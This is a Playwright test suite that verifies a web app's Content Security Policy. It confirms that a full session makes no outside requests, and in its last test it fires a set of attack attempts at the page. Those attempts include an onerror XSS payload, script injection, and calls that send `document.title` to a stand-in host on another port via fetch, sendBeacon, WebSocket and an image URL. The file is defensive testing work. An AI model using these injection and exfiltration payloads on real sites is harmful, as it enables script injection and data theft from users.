// Nothing let in: a session through the whole app under the content policy of `npm start` and of the page itself. Whatever the
// browser refuses is a failure, and so is any request to another address; then the page is attacked, and each attack is refused.

import { readFileSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { type BrowserContext, expect, type Page, test } from '@playwright/test'
import { inlineStyles } from '../scripts/content-policy.mjs'
import { listen } from '../scripts/server.mjs'
import { fileKinds } from '../src/dialogs/picture-files'
import { expectSaved, mapOf, openFile, openSample, stepOn } from './page'

// Its requests belong to the session.
test.use({ serviceWorkers: 'allow' })

interface Watched {
  /** What the browser refused: the directive and what it was about. */
  readonly refused: string[]
  /** Every request of every page and worker, but for what the page made itself (blob:). */
  readonly requests: string[]
  readonly errors: string[]
}

/** Listens in every page of the context, from before its first line of script. */
async function watch(context: BrowserContext): Promise<Watched> {
  const watched: Watched = { refused: [], requests: [], errors: [] }
  await context.exposeBinding('sayRefused', (_, what: string) => watched.refused.push(what))
  await context.addInitScript(() => {
    const { sayRefused } = window as unknown as { sayRefused: (what: string) => void }
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
      sayRefused(`${effectiveDirective} ${blockedURI} ${sample}`),
    )
  })
  context.on('request', request => !request.url().startsWith('blob:') && watched.requests.push(request.url()))
  context.on('weberror', fault => watched.errors.push(fault.error().message))
  // Workers have no such listener; what is refused in them is said on the console.
  context.on('console', message => message.type() === 'error' && watched.errors.push(message.text()))
  return watched
}

const view = async (page: Page, name: string) => {
  await page.getByRole('link', { name, exact: true }).click()
  await expect(page.getByRole('main', { name, exact: true })).toBeVisible()
}

async function command(page: Page, title: string): Promise<void> {
  await page.keyboard.press('Control+k')
  await expect(page.getByRole('dialog', { name: 'Find a step or anything to do' })).toBeVisible()
  await page.keyboard.type(title)
  await expect(page.getByRole('option').first()).toContainText(title)
  await page.keyboard.press('Enter')
}

/** Every file that the app can make, by name. */
async function handOutEverything(page: Page): Promise<ReadonlyMap<string, Buffer>> {
  await page.getByRole('button', { name: 'Hand out' }).click()
  const dialog = page.getByRole('dialog', { name: 'Hand out' })
  const files = new Map<string, Buffer>()
  const keep = async (button: RegExp) => {
    const coming = page.waitForEvent('download')
    await dialog.getByRole('button', { name: button }).click()
    const download = await coming
    files.set(download.suggestedFilename(), await readFile(await download.path()))
  }
  for (const { label } of fileKinds) {
    const chosen = dialog.getByRole('button', { name: 'As', exact: false }).first()
    if ((await chosen.innerText()) !== label) {
      await chosen.click()
      await page.getByRole('option', { name: label, exact: true }).click()
    }
    await expect(dialog.getByRole('img')).toBeVisible()
    await keep(/^Download the (?:picture|PDF|brief)/)
    const copy = dialog.getByRole('button', { name: /^Copy the/ })
    if ((await copy.count()) > 0) {
      await copy.click()
      await expect(page.getByText(/^Copied the /).first()).toBeAttached()
    }
  }
  await keep(/table/)
  await keep(/map file/)
  await page.pdf({ preferCSSPageSize: true })
  await page.keyboard.press('Escape')
  await expect(dialog).toBeHidden()
  return files
}

test('a session through the whole app is refused nothing and asks no other address', async ({
  page,
  context,
  baseURL,
}) => {
  test.setTimeout(180_000)
  const { refused, requests, errors } = await watch(context)
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])

  await openSample(page, 'Benefit change request to production')
  await page.keyboard.press('s')
  await page.keyboard.type('Smoke test 2h > Legal + Safety wait 1d > Decide')
  await page.keyboard.press('Enter')
  await expect(stepOn(page, 'Decide')).toBeVisible()
  await page.keyboard.press('Escape')
  await command(page, 'Tidy up the map')
  await expect(page.getByText('The map is tidied up.').first()).toBeVisible()
  await page.getByRole('button', { name: 'Undo', exact: true }).first().click()

  await view(page, 'Table')
  await page.getByRole('grid').locator('[tabindex="0"]').focus()
  await page.keyboard.press('Control+End')
  await page.keyboard.press('Home')
  await page.keyboard.type('Sign off')
  await page.keyboard.press('Enter')
  await expect(page.getByRole('row', { name: /^Sign off/ })).toBeVisible()
  for (const name of ['Direction', 'Brief', 'Experiments']) await view(page, name)
  await page.getByRole('button', { name: 'Start it' }).first().click()
  await expect(page.getByRole('dialog')).toBeVisible()
  await page.keyboard.press('Escape')

  await view(page, 'History')
  await command(page, 'Keep this version')
  await page.keyboard.type('Before')
  await page.keyboard.press('Enter')
  await expect(page.getByText('Nothing that is on the map differs between the two.')).toBeVisible()
  await view(page, 'Map')
  await stepOn(page, 'Security review').click()
  await page.getByRole('textbox', { name: 'Wait before', exact: true }).fill('6d')
  await page.keyboard.press('Enter')
  await view(page, 'History')
  await expect(page.getByRole('img', { name: /Changed: .*step Security review/ })).toHaveCount(2)

  await view(page, 'Map')
  await command(page, 'Present')
  await page.getByRole('button', { name: 'Next' }).click()
  await page.keyboard.press('Escape')
  await expect(mapOf(page)).toBeVisible()

  const files = await handOutEverything(page)
  const made = (ending: string) => files.get(`benefit-change-request-to-production${ending}`) ?? Buffer.alloc(0)
  for (const ending of ['.svg', '.png', '-2x.png', '.pdf', '-brief.pdf', '-brief.md', '.csv', '.json'])
    expect(made(ending).length, ending).toBeGreaterThan(500)
  await expectSaved(page)
  await page.reload()
  await expect(stepOn(page, 'Sign off')).toBeVisible()
  await expect.poll(() => page.evaluate(() => document.fonts.check('600 14px Inter'))).toBe(true)

  await openFile(page, 'steps.csv', readFileSync('tests/spreadsheet/files/bad-cells.csv'))
  await expect(page.getByRole('dialog')).toContainText('3 cells cannot be read')
  await page.keyboard.press('Escape')
  const edited = made('.json').toString().replaceAll('"6d"', '"8d"')
  for (const [name, text] of Object.entries({ 'map.json': edited, 'map.svg': made('.svg') })) {
    await openFile(page, name, text)
    await expect(mapOf(page).or(page.getByRole('alertdialog'))).toBeVisible()
    await page.keyboard.press('Escape')
  }

  const others = requests.filter(url => !url.startsWith(baseURL ?? 'http://127.0.0.1'))
  expect({ refused, others, errors }).toEqual({ refused: [], others: [], errors: [] })
  expect(requests.length).toBeGreaterThan(20)
  console.log(
    `${requests.length} requests, ${others.length} to other addresses, ${refused.length} refused by the policy`,
  )
})

test('the styles that React Aria brings for phones are let in too', async ({ page, context }) => {
  const { refused } = await watch(context)
  await context.addInitScript(() => {
    Object.defineProperty(navigator, 'platform', { get: () => 'iPhone' })
    Object.defineProperty(navigator, 'userAgentData', { get: () => undefined })
  })
  await openSample(page, 'Permit processing')
  await page.getByRole('button', { name: 'Hand out' }).click()
  await expect(page.getByRole('dialog')).toBeVisible()
  const styles = await page.locator('head style').allTextContents()
  expect(styles.toSorted()).toEqual([...inlineStyles].sort())
  expect(refused).toEqual([])
})

test('markup, script, style, addresses and workers from elsewhere are refused, and the listener hears of each', async ({
  page,
  context,
}) => {
  // Another port is another origin: whatever leaves the page arrives here.
  const arrived: (string | undefined)[] = []
  const elsewhere = createServer((request, response) => {
    arrived.push(request.url)
    response.end()
  }).on('upgrade', request => arrived.push(request.url))
  const port = await listen(elsewhere, 0)
  const { refused } = await watch(context)
  await openSample(page, 'Permit processing')
  expect(refused).toEqual([])
  // In a turn of the page's own, in which nothing that the test is allowed holds.
  await page.evaluate(
    host =>
      new Promise<void>(done => {
        const attempts: (() => unknown)[] = [
          () => {
            document.body.innerHTML = '<img src=x onerror="document.title = 1">'
          },
          () => document.body.insertAdjacentHTML('beforeend', '<b>more</b>'),
          () => document.write('<script>document.title = 2</script>'),
          () => new DOMParser().parseFromString('<svg/>', 'image/svg+xml'),
          () =>
            document.head.append(
              Object.assign(document.createElement('script'), { textContent: 'document.title = 3' }),
            ),
          () =>
            document.head.append(
              Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }),
            ),
          () => document.body.setAttribute('style', 'color: red'),
          () => document.body.setAttribute('onclick', 'document.title = 4'),
          () => new Function('document.title = 5'),
          () => new Worker(URL.createObjectURL(new Blob(['1']))),
          () => new Worker(`http://${host}/worker.js`),
          () => fetch(`http://${host}/take`, { method: 'POST', body: document.title }).catch(() => undefined),
          () => navigator.sendBeacon(`http://${host}/take`),
          () => new WebSocket(`ws://${host}/`),
          () => Object.assign(new Image(), { src: `http://${host}/${document.title}.png` }),
          () => document.body.append(Object.assign(document.createElement('iframe'), { src: `http://${host}/` })),
          () => document.head.prepend(Object.assign(document.createElement('base'), { href: `http://${host}/` })),
        ]
        setTimeout(() => {
          for (const attempt of attempts) {
            try {
              attempt()
            } catch {
              // Refused, which the listener is told.
            }
          }
          done()
        })
      }),
    `127.0.0.1:${port}`,
  )
  const kinds = (found: readonly string[]) => [...new Set(found.map(what => what.split(' ', 1)[0] ?? ''))].sort()
  const all = [
    'base-uri',
    'connect-src',
    'frame-src',
    'img-src',
    'require-trusted-types-for',
    'style-src-attr',
    'style-src-elem',
  ]
  await expect.poll(() => kinds(refused)).toEqual(all)
  expect(arrived).toEqual([])
  elsewhere.close()
  await expect(page).toHaveTitle(/Permit processing/)
  await expect(mapOf(page)).toBeVisible()
})
